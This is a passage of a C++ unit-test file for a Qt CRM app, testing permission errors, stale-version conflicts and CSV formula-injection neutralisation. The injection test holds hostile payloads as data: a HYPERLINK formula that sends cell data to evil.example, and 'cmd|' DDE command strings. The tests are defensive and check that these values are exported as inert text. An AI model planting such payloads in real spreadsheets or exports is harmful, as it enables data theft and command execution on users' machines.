        return storage::SqlQuery(database(), QStringLiteral("SELECT count(*) FROM audit_log WHERE entity_kind = 'customer'")).scalar().toLongLong();
    };
    services::CustomerService manager(as(QStringLiteral("manager1")));
    auto input = company(QStringLiteral("不该写入的客户"));
    input.contactName = QStringLiteral("张伟");
    input.ownerLogin = QStringLiteral("sales3"); // another department
    EXPECT_ERROR_KIND(manager.add(input), Denied);
    input.ownerLogin = QStringLiteral("nobody");
    EXPECT_ERROR_KIND(manager.add(input), NotFound);
    input.ownerLogin.clear();
    input.segment = QStringLiteral("不存在的细分");
    EXPECT_ERROR_KIND(manager.add(input), NotFound);
    input.segment.clear();
    input.contactPhone = QStringLiteral("not a phone");
    EXPECT_ERROR_KIND(manager.add(input), Invalid);
    EXPECT_EQ(rows("customers"), 0);
    EXPECT_EQ(rows("customer_contacts"), 0);
    EXPECT_EQ(auditRows(), 0);
}

// Issue 8 §7: the caller names the version it saw; a stale one changes nothing.
TEST_P(CustomerServiceTest, state_changes_with_a_stale_version_are_conflicts_and_write_nothing)
{
    services::CustomerService sales1(as(QStringLiteral("sales1")));
    const auto customer = sales1.add(company(QStringLiteral("华信")));
    const int seen = customer.version;
    const auto moved = sales1.changeStage(customer.id, Stage::Contacted, {}, seen); // matches: done
    EXPECT_EQ(moved.version, seen + 1);
    const qint64 audits = rows("audit_log");
    const qint64 transitions = rows("workflow_transitions");
    EXPECT_ERROR_KIND(sales1.changeStage(customer.id, Stage::NeedsAnalysis, {}, seen), Conflict);
    EXPECT_ERROR_KIND(sales1.release(customer.id, seen), Conflict);
    services::CustomerService manager(as(QStringLiteral("manager1")));
    EXPECT_ERROR_KIND(manager.assign(customer.id, QStringLiteral("sales2"), seen), Conflict);
    domain::Customer edited = customer; // the version read before the stage change
    edited.notes = QStringLiteral("过时的修改");
    EXPECT_ERROR_KIND(sales1.update(edited), Conflict);
    EXPECT_EQ(rows("audit_log"), audits);
    const auto complaint = services::CustomerCareService(as(QStringLiteral("sales1"))).recordContact(customer.id, domain::ContactKind::Complaint, QStringLiteral("交付延期"), {}, {});
    services::CustomerCareService(as(QStringLiteral("sales1"))).updateComplaint(complaint.id, domain::ComplaintStatus::InProgress, {}, complaint.version);
    EXPECT_ERROR_KIND(services::CustomerCareService(as(QStringLiteral("sales1"))).updateComplaint(complaint.id, domain::ComplaintStatus::Resolved, QStringLiteral("补发"), complaint.version), Conflict);
    const qint64 winBack = services::RetentionService(as(QStringLiteral("sales1"))).recordWinBack(customer.id, QStringLiteral("竞争对手降价"), QStringLiteral("九折优惠"));
    const int winBackVersion = services::RetentionService(as(QStringLiteral("sales1"))).winBacks(customer.id).first().version;
    const qint64 afterWinBack = rows("audit_log");
    EXPECT_ERROR_KIND(services::RetentionService(as(QStringLiteral("sales1"))).winBackResult(winBack, true, {}, winBackVersion + 1), Conflict);
    EXPECT_EQ(rows("audit_log"), afterWinBack);

    const domain::Customer now = sales1.customer(customer.id);
    EXPECT_EQ(now.version, moved.version);
    EXPECT_EQ(now.stage, Stage::Contacted);
    EXPECT_EQ(now.ownerId, organisation().id(QStringLiteral("sales1")));
    EXPECT_TRUE(now.notes.isEmpty());
    EXPECT_EQ(rows("workflow_transitions"), transitions);
    EXPECT_EQ(sales1.details(customer.id).log.first().complaintStatus, domain::ComplaintStatus::InProgress);

    // In the pool, a claim with the version seen before someone else's change is refused too.
    const auto pooled = manager.release(customer.id, now.version);
    EXPECT_ERROR_KIND(services::CustomerService(as(QStringLiteral("sales2"))).claim(customer.id, now.version), Conflict);
    EXPECT_EQ(services::CustomerService(as(QStringLiteral("sales2"))).claim(customer.id, pooled.version).ownerId,
              organisation().id(QStringLiteral("sales2")));
}

// Issue 8 §4 formula injection: hostile names are exported as text, not as formulas.
TEST_P(CustomerServiceTest, csv_export_neutralises_formulas_and_imports_them_back_verbatim)
{
    services::CustomerService service(as(QStringLiteral("sales1")));
    const QStringList hostile{QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")"), QStringLiteral("+cmd|' /C calc'!A0"),
                              QStringLiteral("-2+3+cmd|' /C calc'!A0"), QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0"),
                              QStringLiteral("＝1+1 全角等号")};
    for (const QString &name : hostile)
        service.add(company(name));
    auto formulaNotes = company(QStringLiteral("备注是公式的客户"));
    formulaNotes.notes = QStringLiteral("=1+1");
    service.add(formulaNotes);
    const QString csv = m_scratch->pathFor(QStringLiteral("hostile.csv"));
    ASSERT_EQ(service.exportTo({}, csv), hostile.size() + 1);
    QFile file(csv);
    ASSERT_TRUE(file.open(QIODevice::ReadOnly));
    const QString text = QString::fromUtf8(file.readAll());
    for (const QString &line : text.split(QStringLiteral("\r\n"), Qt::SkipEmptyParts).mid(1)) {
        // No cell may start with a formula character: not the first, not after a separator.
        EXPECT_FALSE(line.startsWith(QLatin1Char('=')) || line.startsWith(QLatin1Char('+')) || line.startsWith(QLatin1Char('-'))
                     || line.startsWith(QLatin1Char('@')) || line.startsWith(QChar(0xFF1D)))
            << line.toStdString();
        EXPECT_FALSE(line.contains(QStringLiteral(",=")) || line.contains(QStringLiteral(",+")) || line.contains(QStringLiteral(",-"))
                     || line.contains(QStringLiteral(",@")) || line.contains(QStringLiteral(",\"=")) || line.contains(QStringLiteral(",\"\t")))
            << line.toStdString();
    }
    EXPECT_TRUE(text.contains(QStringLiteral("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点我\"\")\""))) << text.toStdString();
    EXPECT_TRUE(text.contains(QStringLiteral("'+cmd|' /C calc'!A0")));
    EXPECT_TRUE(text.contains(QStringLiteral("'＝1+1 全角等号")));
    EXPECT_TRUE(text.contains(QStringLiteral(",'=1+1,")));
    // Read back, the cells are the names as they were.
    const auto table = services::CustomerImport::read(csv);
    const int nameColumn = services::CustomerImport::guessMapping(table.headers).indexOf(QStringLiteral("name"));
    QStringList names;
    for (const auto &row : table.rows)
        names << row.at(nameColumn);
    for (const QString &name : hostile)
        EXPECT_TRUE(names.contains(name)) << name.toStdString();
}

TEST(TableExportTest, only_text_cells_are_prefixed_and_numbers_stay_numbers)
{
    using services::ExportTable;
    using services::TableExport;
    EXPECT_EQ(TableExport::neutraliseFormula(QStringLiteral("=1+1")), QStringLiteral("'=1+1"));
    EXPECT_EQ(TableExport::neutraliseFormula(QStringLiteral("\r=1")), QStringLiteral("'\r=1"));
    EXPECT_EQ(TableExport::neutraliseFormula(QStringLiteral("\t=1")), QStringLiteral("'\t=1"));
    EXPECT_EQ(TableExport::neutraliseFormula(QStringLiteral("@A1")), QStringLiteral("'@A1"));
    EXPECT_EQ(TableExport::neutraliseFormula(QStringLiteral("a=1")), QStringLiteral("a=1"));
    EXPECT_EQ(TableExport::neutraliseFormula(QString()), QString());
    EXPECT_EQ(TableExport::restoreNeutralised(QStringLiteral("'-5")), QStringLiteral("-5"));
    EXPECT_EQ(TableExport::restoreNeutralised(QStringLiteral("'quoted")), QStringLiteral("'quoted"));

    ExportTable table;
    table.columns = {{QStringLiteral("Text"), ExportTable::ColumnKind::Text}, {QStringLiteral("Amount"), ExportTable::ColumnKind::Money},
                     {QStringLiteral("Count"), ExportTable::ColumnKind::Integer}};
    table.rows = {{QStringLiteral("-12.50"), QVariant(qint64(-1250)), QVariant(qint64(-3))}};
    QTemporaryDir folder;
    const QString path = folder.filePath(QStringLiteral("numbers.csv"));
    TableExport::write(table, path);
    QFile file(path);
    ASSERT_TRUE(file.open(QIODevice::ReadOnly));
    const QString text = QString::fromUtf8(file.readAll());
    // Negative amounts and counts stay numbers Excel can add up; the same text in a text column is prefixed.
    EXPECT_TRUE(text.endsWith(QStringLiteral("'-12.50,-12.50,-3\r\n"))) << text.toStdString();
}

BIZDESK_INSTANTIATE_BACKENDS(CustomerServiceTest);
